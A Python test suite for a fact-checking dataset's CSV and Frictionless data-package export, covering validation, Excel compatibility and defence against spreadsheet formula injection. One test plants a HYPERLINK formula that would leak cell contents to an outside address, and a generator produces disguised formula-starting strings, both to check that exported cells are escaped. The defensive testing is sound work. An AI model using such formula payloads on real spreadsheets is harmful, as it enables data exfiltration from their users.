"""CSV and its data package, read with what their users read them with."""

import csv
import unicodedata
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import frictionless
import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from factcheck.dataset.columns import COLUMNS, to_row
from factcheck.dataset.consensus import read_answers
from factcheck.dataset.export import About
from factcheck.dataset.export.frictionless import read_rows
from factcheck.dataset.reading import open_dataset
from factcheck.domain import Dataset, Evidence
from factcheck.errors import ExportError
from tests.dataset.export.exported import EMPTY, exported
from tests.dataset.export.odd_values import ODD
from tests.dataset.samples import DATASET
from tests.dataset.strategies import datasets

PLAIN = settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)


VERDICTS_OF_A_SPREADSHEET = replace(
    DATASET,
    taxonomy=replace(DATASET.taxonomy, verdicts=("True", "1/2")),
    claims=tuple(
        replace(claim, verdict=verdict)
        for claim, verdict in zip(DATASET.claims, ("True", "1/2"), strict=True)
    ),
)


def report_of(package: Path) -> Any:  # noqa: ANN401 - untyped
    """Return the report of Frictionless' validator."""
    return frictionless.validate(str(package))


def hostile(note: str, title: str = "", *urls: str) -> Dataset:
    """Return the sample with a note of an annotator, a title and addresses."""
    claims = (replace(DATASET.claims[0], evidence=Evidence(urls, note)), *DATASET.claims[1:])
    documents = (replace(DATASET.documents[0], title=title), *DATASET.documents[1:])
    return replace(DATASET, claims=claims, documents=documents)


@settings(PLAIN, max_examples=50)
@given(dataset=datasets(), for_excel=st.booleans())
@example(dataset=ODD, for_excel=True)
def test_read_rows_gives_back_every_row(
    dataset: Dataset, tmp_path: Path, *, for_excel: bool
) -> None:
    """With formulas, quotes and all kinds of line breaks; also from a table for Excel."""
    table, _ = exported(tmp_path, dataset, "csv", for_excel=for_excel, rows="annotations")

    with open_dataset(tmp_path / "claims.json") as opened:
        assert list(read_rows(table)) == [to_row(each, COLUMNS) for each in read_answers(opened)]


@settings(PLAIN, max_examples=25)
@given(dataset=datasets(), for_excel=st.booleans())
@example(dataset=VERDICTS_OF_A_SPREADSHEET, for_excel=True)
def test_any_export_is_a_valid_data_package(
    dataset: Dataset, tmp_path: Path, *, for_excel: bool
) -> None:
    """Types, allowed values, keys and hash."""
    _, package = exported(tmp_path, dataset, "csv", for_excel=for_excel, rows="annotations")

    report = report_of(package)

    assert report.valid, report.flatten(["type", "message"])


def test_an_empty_dataset_is_a_valid_data_package(tmp_path: Path) -> None:
    """The table has only its headings."""
    table, package = exported(tmp_path, EMPTY, "csv", rows="annotations")

    assert report_of(package).valid
    assert table.read_text("utf-8") == ",".join(f'"{each.name}"' for each in COLUMNS) + "\n"


def test_the_package_detects_a_wrong_table(tmp_path: Path) -> None:
    """An unknown verdict, and a score of 2."""
    table, package = exported(tmp_path, DATASET, "csv", rows="annotations")
    text = table.read_text("utf-8").replace("Supported", "Maybe").replace("0.75", "2")
    table.write_text(text, encoding="utf-8", newline="")

    errors = {tuple(each) for each in report_of(package).flatten(["fieldName", "type"])}

    assert {("verdict", "constraint-error"), ("score", "constraint-error")} <= errors


def test_the_package_gives_rows_their_types(tmp_path: Path) -> None:
    """Lists, date-times, numbers, and None for an empty cell."""
    _, package = exported(tmp_path, DATASET, "csv", rows="annotations")

    first, second = frictionless.Package(str(package)).get_resource("claims").read_rows()

    assert first["created"].isoformat() == "2023-10-01T09:00:00.500000+00:00"
    assert (first["labels"], first["content_start"], first["content_end"]) == (
        ["Kremlin"],
        [19],
        [40],
    )
    assert (float(first["score"]), first["withdrawn"]) == (0.75, False)
    assert (second["score"], second["url"], second["labels"]) == (None, None, ["Kremlin", "Other"])


def test_no_cell_runs_in_a_spreadsheet(tmp_path: Path) -> None:
    """The cell is text; `read_rows` gives the note back."""
    note = '=HYPERLINK("https://example.org/?leak="&A1)'
    table, _ = exported(tmp_path, hostile(note), "csv", rows="annotations")

    with table.open(encoding="utf-8", newline="") as file:
        cells = [cell for cells in csv.reader(file) for cell in cells]
    assert f"'{note}" in cells
    assert next(read_rows(table))["evidence_note"] == note


FORMULAS = st.text(
    st.sampled_from("=+-@＝;,|\t\r\n\"' a\u200b\ufeff\u00ad\u202e\x00\x1f\u3000"), max_size=12
)


def begins_formula(cell: str) -> bool:
    """Return whether a cell is a formula after white space and characters of category C."""
    visible = (
        each for each in cell if not (each.isspace() or unicodedata.category(each)[0] == "C")
    )
    return next(visible, "").startswith(tuple("=+-@＝＋－＠"))


@settings(PLAIN, max_examples=200)
@given(note=FORMULAS, title=FORMULAS, path=FORMULAS)
@example(note="a;=1+1", title="a\t=1+1", path="a;=1+1")
@example(note="\u200b=1+1", title="\ufeff;\u00ad=1", path=";+1")
def test_no_cell_is_a_formula_whatever_separates_cells(
    note: str, title: str, path: str, tmp_path: Path
) -> None:
    """Read with a comma, a semicolon, a tab or a bar; in texts and in lists; nothing is lost."""
    title, url = title.replace("\0", ""), "https://example.org/" + quote(path, safe=";=+-@,")
    dataset = hostile(note, title, url)
    table, _ = exported(tmp_path, dataset, "csv", rows="annotations")

    for separator in ",;\t|":
        with table.open(encoding="utf-8", newline="") as file:
            cells = [cell for cells in csv.reader(file, delimiter=separator) for cell in cells]
        assert len(cells) >= len(dataset.claims)
        assert not list(filter(begins_formula, cells))
    row = next(read_rows(table))
    assert (row["evidence_note"], row["title"]) == (note or None, title or None)
    assert row["evidence_urls"] == [url]


def test_a_table_for_excel_is_marked_as_utf_8(tmp_path: Path) -> None:
    """With a byte order mark, without which Excel takes Arabic for something else."""
    table, _ = exported(tmp_path, DATASET, "csv", for_excel=True, rows="annotations")

    assert table.read_bytes().startswith(b'\xef\xbb\xbf"id",')
    assert pd.read_csv(table)["text"].tolist()[1] == "إن اللقاء تم"


def test_a_table_for_excel_has_no_cell_that_it_takes_for_a_number(tmp_path: Path) -> None:
    """Texts begin with an apostrophe then; times stay times."""
    table, _ = exported(tmp_path, ODD, "csv", for_excel=True, rows="annotations")

    frame = pd.read_csv(table, keep_default_na=False)
    assert frame["id"].tolist() == ["'49680748812e0522", "'5077226609499e98", "'46080e4338067835"]
    assert frame["annotation"].tolist() == ["'1e308", "'0012", "'2e5"]
    assert frame["title"].tolist() == ["NaN", "'TRUE", ""]
    assert frame["source"].tolist() == ["None", "NA", "null"]
    assert frame["published"].tolist() == ["2023-09-28T00:00:00Z"] * 3


def test_only_a_table_can_be_for_excel(tmp_path: Path) -> None:
    """Nothing is written otherwise."""
    with pytest.raises(ExportError, match="jsonl is not a table for Excel; export with --to csv"):
        exported(tmp_path, DATASET, "jsonl", for_excel=True)

    assert not (tmp_path / "out").exists()


def test_pandas_reads_the_table(tmp_path: Path) -> None:
    """A cell with a comma, quotes and line breaks."""
    note = 'One, "two",\r\nthree'
    table, _ = exported(tmp_path, hostile(note), "csv", rows="annotations")

    frame = pd.read_csv(table)

    assert list(frame.columns) == [each.name for each in COLUMNS]
    assert (len(frame), frame.evidence_note[0], frame.lead_time[0]) == (2, note, 61.5)


@pytest.mark.parametrize(
    ("licence", "expected"),
    [
        ("", None),
        ("CC-BY-4.0", [{"name": "CC-BY-4.0"}]),
        ("https://example.org/terms", [{"path": "https://example.org/terms"}]),
    ],
)
def test_the_licence_is_what_was_given(licence: str, expected: object, tmp_path: Path) -> None:
    """An id, an address, or nothing."""
    _, package = exported(tmp_path, DATASET, "csv", About(licence))

    assert frictionless.Package(str(package)).to_descriptor().get("licenses") == expected


def test_a_cell_may_be_of_any_length(tmp_path: Path) -> None:
    """Also longer than the 128 KiB that Python's reader accepts by default."""
    table, _ = exported(tmp_path, hostile("long " * 40_000), "csv", rows="annotations")

    assert next(read_rows(table))["evidence_note"] == "long " * 40_000
    assert pd.read_csv(table).evidence_note[0] == "long " * 40_000


@pytest.mark.parametrize("text", ["a,b\r\n1,2\r\n", 'id\r\n"x\r\n'])
def test_another_table_is_refused(text: str, tmp_path: Path) -> None:
    """Other columns, or a cell without its end."""
    path = tmp_path / "other.csv"
    path.write_text(text, encoding="utf-8", newline="")

    with pytest.raises(ValueError, match="is not a table of claims"):
        list(read_rows(path))
